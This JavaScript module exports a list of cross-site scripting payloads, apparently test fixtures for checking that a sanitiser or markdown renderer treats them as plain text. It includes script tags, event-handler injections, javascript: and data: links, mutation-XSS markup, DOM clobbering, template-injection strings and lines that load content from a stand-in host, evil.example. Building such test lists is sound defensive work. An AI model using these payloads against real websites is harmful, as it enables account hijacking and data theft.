const scripts = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<script/x>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=https://evil.example/>",
];

const events = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "ontoggle",
  "onanimationstart",
  "onbegin",
  "onwheel",
  "onbeforetoggle",
];
const carriers = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video><source",
  "audio src=x",
  "marquee",
  "math",
  "iframe",
];
const handlers = carriers.flatMap((carrier, index) =>
  [0, 1, 2, 3].map((step) => `<${carrier} ${events[(index + step * 3) % events.length]}=alert(1)>`),
);

const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  " javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "//evil.example/%0ajavascript:alert(1)",
  "\\x01javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "javascript://example.org/%0aalert(1)",
];
const links = schemes.flatMap((scheme) => [
  `[press](${scheme})`,
  `<a href="${scheme}">press</a>`,
  `![picture](${scheme})`,
]);

const markdown = [
  "[a](<javascript:alert(1)>)",
  "[a]: javascript:alert(1)\n\n[a]",
  "<javascript:alert(1)>",
  '[x](https://example.org "onmouseover=alert(1) x=\\"")',
  '[x](https://example.org/"onclick="alert(1))',
  "![x](https://evil.example/pixel.png)",
  '![x](https://evil.example/"onerror="alert(1).png)',
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "https://example.org/<script>alert(1)</script>",
  'https://example.org/"onmouseover="alert(1)',
  "<https://example.org/'onclick='alert(1)>",
  "**<b onmouseover=alert(1)>bold</b>**",
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "> <svg><script>alert(1)</script></svg>",
  "1. <object data=javascript:alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
];

// Trees that browsers and sanitisers have read differently.
const mutations = [
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg><desc><noscript></desc><img src=x onerror=alert(1)>",
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "<template><img src=x onerror=alert(1)></template>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<a id=x name=getElementById href=#>clobber</a>",
  "<form id=attributes><input name=attributes></form>",
  "<img name=body><img name=cookie>",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "<embed src=javascript:alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  "<p style=position:fixed;inset:0;z-index:9>over everything</p>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<<img src=x onerror=alert(1)>",
  '<a href="\u0001javascript:alert(1)">x</a>',
];

// Text that lies by its direction, or by what nobody sees.
const tricks = [
  "\u202egnp.exe\u202c",
  "a\u200bd\u200ba",
  "\u2066\u2067\u2069",
  "@<img src=x onerror=alert(1)>",
  '@ada" onmouseover=alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "'-alert(1)-'",
  '";alert(1)//',
  "%3Cscript%3Ealert(1)%3C/script%3E",
];

/** Texts that must stay texts. */
export const payloads = [...scripts, ...handlers, ...links, ...markdown, ...mutations, ...tricks];
